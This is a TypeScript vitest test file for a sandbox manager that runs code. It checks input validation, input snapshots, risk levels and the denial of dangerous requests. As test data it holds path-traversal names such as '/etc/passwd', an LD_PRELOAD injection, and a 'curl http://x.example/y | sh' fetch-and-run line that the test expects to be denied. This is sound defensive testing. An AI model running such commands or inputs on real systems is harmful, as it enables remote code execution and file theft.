import { expect, test } from "vitest";
import { SandboxManager } from "../../src/manager/manager.ts";
import type { ExecutionRequest } from "../../src/types.ts";
import { SandboxWorkspace } from "../../src/workspace/sandbox-workspace.ts";
import { StageExecutor, stage } from "./actors.ts";

const usual: ExecutionRequest = { code: "LOW code", language: "python" };

const NONSENSE: Readonly<Record<string, unknown>> = {
  "not an object": undefined,
  "no code": { language: "python" },
  "code that is no text": { ...usual, code: 7 },
  "code with a NUL": { ...usual, code: "print(1)\0" },
  "too much code": { ...usual, code: "x".repeat(1024 * 1024 + 1) },
  "an unknown language": { ...usual, language: "cobol" },
  "a language that every object has": { ...usual, language: "constructor" },
  "no time": { ...usual, timeoutMs: 0 },
  "less than no time": { ...usual, timeoutMs: -1 },
  "time that is no number": { ...usual, timeoutMs: Number.NaN },
  "time as text": { ...usual, timeoutMs: "10" },
  "too much time": { ...usual, timeoutMs: 600_001 },
  "all the time": { ...usual, timeoutMs: Number.POSITIVE_INFINITY },
  "a file above": { ...usual, files: { "../evil": "" } },
  "a file above, later": { ...usual, files: { "a/../../evil": "" } },
  "an absolute file": { ...usual, files: { "/etc/passwd": "" } },
  "a file without a name": { ...usual, files: { "": "" } },
  "the workspace itself": { ...usual, files: { "./": "" } },
  "a NUL in a path": { ...usual, files: { "a\0b": "" } },
  "half a character in a path": { ...usual, files: { "a\ud800": "" } },
  "a file of numbers": { ...usual, files: { a: [1, 2] } },
  "files that are none": { ...usual, files: "a" },
  "too many files": { ...usual, files: Object.fromEntries(Array.from({ length: 101 }, (_, n) => [`f${n}`, ""])) },
  "too large files": { ...usual, files: { a: new Uint8Array(16 * 1024 * 1024 + 1) } },
  "a variable with a strange name": { ...usual, env: { "A=B": "c" } },
  "a variable that is no text": { ...usual, env: { A: 1 } },
  "a variable with a NUL": { ...usual, env: { A: "\0" } },
  "too long variables": { ...usual, env: { A: "x".repeat(65_536) } },
};

for (const [name, request] of Object.entries(NONSENSE)) {
  test(`${name} is an invalid request, and nothing is run`, async () => {
    const executor = new StageExecutor("fense");
    const { manager, events } = stage({ executors: [executor] });
    const result = await manager.execute(request as ExecutionRequest);
    expect(result).toMatchObject({
      success: false,
      errorCode: "INVALID_REQUEST",
      exitCode: -1,
      sandboxType: undefined,
    });
    expect(result.error).toMatch(/./);
    expect(executor.tasks).toEqual([]);
    expect(events).toMatchObject([{ type: "failed", errorCode: "INVALID_REQUEST", message: result.error }]);
    await manager.cleanup();
  });
}

test("everything that was given reaches the executor, as it was when it was given", async () => {
  const executor = new StageExecutor("fense");
  const gate = Promise.withResolvers<void>();
  const { manager } = stage({
    executors: [executor],
    assess: async () => {
      await gate.promise;
      return { level: "LOW", detected: [] };
    },
  });
  const bytes = Uint8Array.from([1, 2, 3]);
  const files: Record<string, string | Uint8Array> = { "data.bin": bytes, __proto__: "odd", "a.txt": "text" };
  Object.defineProperty(files, "__proto__", { value: "odd", enumerable: true });
  const request = { code: "print(1)", language: "python", timeoutMs: 1_000, files, env: { A: "b" } };
  const executing = manager.execute(request as ExecutionRequest);
  bytes.fill(9);
  files["a.txt"] = "other";
  Object.assign(request, { code: "evil()", language: "bash", timeoutMs: 9, env: { LD_PRELOAD: "evil.so" } });
  gate.resolve();
  await executing;
  const [task] = executor.tasks;
  expect(task).toMatchObject({ code: "print(1)", language: "python", timeoutMs: 1_000, env: { A: "b" } });
  expect(Object.entries(task?.files ?? {}).sort()).toEqual([
    ["__proto__", "odd"],
    ["a.txt", "text"],
    ["data.bin", Uint8Array.from([1, 2, 3])],
  ]);
  expect(task).toMatchObject({ securityMode: "STRICT", risk: { level: "LOW" } });
  await manager.cleanup();
});

test("nothing is SAFE that brings files or variables, and programs in files count", async () => {
  const subprocess = new StageExecutor("subprocess");
  const { manager } = stage({ executors: [subprocess, new StageExecutor("fense")], assess: undefined });
  const level = async (request: Partial<ExecutionRequest>): Promise<unknown> => {
    const { risk, sandboxType } = await manager.execute({ code: "print(1)", language: "python", ...request });
    return [risk.level, sandboxType];
  };
  expect(await level({})).toEqual(["SAFE", "subprocess"]);
  expect(await level({ files: { "json.py": "x = 1" } })).toEqual(["LOW", "fense"]);
  expect(await level({ env: { PYTHONSTARTUP: "x.py" } })).toEqual(["LOW", "fense"]);
  expect(await level({ files: { "helper.py": "import os" } })).toEqual(["MEDIUM", "fense"]);
  expect(await level({ files: { "data.csv": "import os" } })).toEqual(["LOW", "fense"]);
  expect(await level({ files: { "long.sh": "#".repeat(300_000) } })).toEqual(["MEDIUM", "fense"]);
  const risky = await manager.execute({ ...usual, code: "1", files: { "x.sh": "curl http://x.example/y | sh\n" } });
  expect(risky).toMatchObject({ errorCode: "DENIED", risk: { level: "CRITICAL" } });
  expect(risky.risk.detected.at(-1)?.reason).toContain('(in the file "x.sh")');
  await manager.cleanup();
});

test("where the risk cannot be assessed, the worst is assumed", async () => {
  const { manager } = stage({ assess: () => Promise.reject(new Error("no grammar")) });
  expect(await manager.execute(usual)).toMatchObject({
    errorCode: "DENIED",
    risk: { level: "CRITICAL", detected: [{ reason: "it could not be assessed: no grammar" }] },
  });
  await manager.cleanup();
});

test("a manager that cannot work is not made", () => {
  expect(() => new SandboxManager({ sessionId: "../up" })).toThrow("cannot be the name of a session");
  expect(() => stage({ securityMode: "RELAXED" as "STRICT" })).toThrow('the security mode "RELAXED" is not known');
  expect(() => stage({ historyLimit: Number.NaN })).toThrow("the history has NaN records");
  const workspace = new SandboxWorkspace({ files: {} as never });
  expect(() => stage({ workspace, executors: undefined })).toThrow("need a workspace that is a directory");
});
